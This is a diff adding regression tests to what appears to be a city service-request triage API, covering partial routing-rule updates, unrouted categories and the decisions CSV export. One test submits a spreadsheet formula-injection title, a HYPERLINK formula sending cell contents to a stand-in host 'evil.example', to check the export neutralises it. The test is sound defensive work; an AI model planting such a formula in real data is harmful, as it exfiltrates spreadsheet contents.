@@ -298,6 +298,13 @@ def test_routing_table_api(client, routed_city) -> None:
     replaced = client.put(f"{API}/routing-rules/{rule_id}", json={**base, "active": False}, headers=ADMIN)
     assert replaced.status_code == 200 and replaced.json()["active"] is False
     assert client.get(f"{API}/routing-rules", params={"active": False}).json()[0]["id"] == rule_id
+    # found by a user trial: a PUT naming only some fields widened the rule to every category
+    narrowed = client.put(f"{API}/routing-rules/{rule_id}", json={"lead_target": "unit", "priority": 3}, headers=ADMIN)
+    assert narrowed.status_code == 200, narrowed.text
+    assert narrowed.json()["category_id"] == base["category_id"] and narrowed.json()["priority"] == 3
+    territorial = client.put(f"{API}/routing-rules/{rule_id}", json={"lead_target": "street"}, headers=ADMIN)
+    assert territorial.status_code == 422  # the rule still names a lead unit: say so rather than drop it
+    assert territorial.json()["error"]["fields"][0]["field"] == "lead_unit_id"
     assert client.delete(f"{API}/routing-rules/{rule_id}", headers=ADMIN).status_code == 204
     assert client.delete(f"{API}/routing-rules/{rule_id}", headers=ADMIN).status_code == 404
     assert client.put(f"{API}/routing-rules/{rule_id}", json=base, headers=ADMIN).status_code == 404
@@ -314,3 +321,37 @@ def test_a_rule_whose_unit_was_deactivated_does_not_fire(session, routed_city) -
     session.flush()
     found = route(session, category_id=category, place=RoutePlace())
     assert found is not None and found.lead_unit_id == routed_city["DEP-CG"]
+
+
+def test_a_given_category_without_a_route_waits_instead_of_failing(client, routed_city) -> None:
+    # found by a user trial: 城乡建设 routes to the street of the place, and this request has no place
+    category = routed_city["cat:城乡建设/市政设施/路灯不亮"]
+    out = file(client, "路灯坏了", "小区门口路灯坏了", category_id=category)
+    assert out["status"] == "submitted" and out["triage"]["reasons"] == ["no_rule"]
+    assert out["triage"]["queued"] is True and out["category_id"] == category
+    far = file(client, "路灯坏了", "门口路灯坏了一周", category_id=category, lat=0.0, lon=0.0)
+    assert far["status"] == "submitted" and far["triage"]["reasons"] == ["no_rule"]
+
+
+def test_decisions_export_is_formula_safe_and_finer_choices_count_for_their_suggestion(
+    client, routed_city, held_out
+) -> None:
+    # found by a user trial: "=HYPERLINK(…)" titles ran in Excel; unit-only decisions gave an empty label;
+    # choosing a finer category than the suggested one counted as "none of the suggestions"
+    title, body, *_ = next(m for m in held_out if m[3] < 0.6)
+    risky = file(client, '=HYPERLINK("http://evil.example/?x="&A1,"点击")', body, address="青山区松林街道")
+    suggestion = risky["triage"]["suggestions"][0]
+    level1 = suggestion["category_id"]
+    finer = next(c["id"] for c in client.get(f"{API}/categories").json()
+                 if c["parent_id"] == level1 or (c["path"].startswith(suggestion["path"] + "/")))
+    decided = client.post(f"{API}/requests/{risky['id']}/decide",
+                          json={"category_id": finer, "lead_unit_id": suggestion["lead_unit_id"]}, headers=DISPATCHER)
+    assert decided.status_code == 200, decided.text
+    assert decided.json()["decided_rank"] == 1
+    unit_only = file(client, title, body + "（另案）")
+    assert client.post(f"{API}/requests/{unit_only['id']}/decide", json={"lead_unit_id": routed_city["DEP-JT"]},
+                       headers=DISPATCHER).status_code == 200
+    rows = list(csv.DictReader(io.StringIO(client.get(f"{API}/triage/decisions.csv", headers=ANALYST).text.lstrip(
+        "\ufeff"))))
+    assert [r["request_id"] for r in rows] == [str(risky["id"])]
+    assert rows[0]["title"].startswith("'=HYPERLINK(") and rows[0]["label"] == suggestion["label"]
